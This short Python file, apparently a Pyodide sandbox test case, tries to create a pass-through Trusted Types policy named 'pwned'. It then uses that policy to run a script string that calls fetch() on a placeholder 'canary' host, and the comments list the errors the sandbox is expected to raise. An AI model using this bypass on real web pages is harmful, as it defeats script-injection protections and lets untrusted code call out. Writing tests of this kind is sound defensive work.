# Tries to make trusted scripts with a policy of its own.
# Sees: AttributeError|JsException|policy
import js
from pyodide.ffi import create_proxy, to_js


def rule(event):
    same = create_proxy(lambda text, *rest: text)
    rules = to_js({"createScript": same, "createScriptURL": same}, dict_converter=js.Object.fromEntries)
    policy = js.trustedTypes.createPolicy("pwned", rules)
    print("policy", policy)
    js.setTimeout(policy.createScript("fetch('http://canary/code/trusted_types')"), 0)
    return False
